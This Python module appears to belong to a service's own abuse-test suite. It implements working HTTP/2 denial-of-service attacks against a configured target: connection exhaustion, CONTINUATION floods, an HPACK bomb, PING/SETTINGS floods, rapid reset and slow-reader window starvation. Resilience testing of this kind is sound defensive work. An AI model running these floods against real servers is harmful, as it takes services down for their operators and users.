"""Attacks below the calls: connections and frames of HTTP/2 that no regular client sends."""

import asyncio
import contextlib
import time
from collections import Counter
from collections.abc import Iterator

from tests.abuse.attacks.registry import QUERY, attack, many
from tests.abuse.connections.hand_made_calls import head
from tests.abuse.connections.rude_sockets import PREFACE, frame
from tests.abuse.target import Target, query


@attack
async def many_connections(target: Target) -> Counter[str]:
    """1500 connections that say nothing."""

    async def connect(_: int) -> str:
        host, _, port = target.address.rpartition(":")
        try:
            reader, writer = await asyncio.open_connection(host, int(port))
        except OSError:
            return "refused"
        try:
            async with asyncio.timeout(10):
                while await reader.read(1000):
                    pass
            return "closed"
        except TimeoutError:
            return "held"
        except OSError:
            return "reset"
        finally:
            writer.close()

    return await many(1500, connect)


async def _raw(target: Target, data: Iterator[bytes], seconds: float, *, hold: bool = False) -> str:
    """A connection that sends frames as fast as they are taken, and reads along. ``hold``: it stays open to the end."""
    host, _, port = target.address.rpartition(":")
    try:
        reader, writer = await asyncio.open_connection(host, int(port))
    except OSError:
        return "refused"

    async def read() -> None:
        with contextlib.suppress(OSError):
            while await reader.read(65536):
                pass

    reading = asyncio.ensure_future(read())
    end, sent = time.monotonic() + seconds, 0
    try:
        writer.write(PREFACE + frame(4, 0, 0))
        for piece in data:
            writer.write(piece)
            sent += len(piece)
            await asyncio.wait_for(writer.drain(), 5)
            if time.monotonic() > end or reading.done():
                break
            await asyncio.sleep(0)
        if hold:
            await asyncio.wait({reading}, timeout=end - time.monotonic())
        return "closed" if reading.done() else "taken"
    except TimeoutError:
        return "held back"
    except OSError:
        return "closed"
    finally:
        reading.cancel()
        writer.close()


@attack
async def continuations(target: Target) -> Counter[str]:
    """Headers that never end: CONTINUATION after CONTINUATION."""

    def frames() -> Iterator[bytes]:
        yield frame(1, 0, 1, head(QUERY))
        block = b"\x00\x04abcd\x40" + b"x" * 64
        for _ in range(100_000):
            yield frame(9, 0, 1, block * 20) * 8

    return await many(8, lambda _: _raw(target, frames(), 6))


@attack
async def header_tables(target: Target) -> Counter[str]:
    """One large header in the table, named by thousands of bytes of one byte each (HPACK bomb)."""

    def frames() -> Iterator[bytes]:
        stream = 1
        entry = b"\x40\x04bomb\x7f\x80\x1f" + b"x" * 4095
        yield frame(1, 4, stream, head(QUERY) + entry[:3000])
        while stream < 20_000:
            stream += 2
            yield frame(1, 4, stream, head(QUERY) + b"\xbe" * 12_000)

    return await many(8, lambda _: _raw(target, frames(), 6))


@attack
async def pings_and_settings(target: Target) -> Counter[str]:
    def frames() -> Iterator[bytes]:
        for _ in range(100_000):
            yield (frame(6, 0, 0, bytes(8)) + frame(4, 0, 0)) * 50

    return await many(8, lambda _: _raw(target, frames(), 6))


@attack
async def resets(target: Target) -> Counter[str]:
    """Calls reset as soon as made (rapid reset), with a token."""
    token = f"Bearer {target.tokens['rude']}"

    def frames() -> Iterator[bytes]:
        for stream in range(1, 60_001, 2):
            made = frame(1, 4, stream, head(QUERY, authorization=token))
            yield made + frame(3, 0, stream, (8).to_bytes(4, "big"))

    return await many(8, lambda _: _raw(target, frames(), 8))


@attack
async def slow_readers(target: Target) -> Counter[str]:
    """200 streams of 700 tokens whose windows are closed."""
    token = f"Bearer {target.tokens['rude']}"
    request = query(None, 700).SerializeToString()
    body = b"\0" + len(request).to_bytes(4, "big") + request

    def frames() -> Iterator[bytes]:
        yield frame(4, 0, 0, b"\x00\x04" + bytes(4))
        path = "/kestrel.v1.VisionService/StreamQuery"
        for stream in range(1, 51, 2):
            yield frame(1, 4, stream, head(path, authorization=token)) + frame(0, 1, stream, body)

    return await many(8, lambda _: _raw(target, frames(), 10, hold=True))
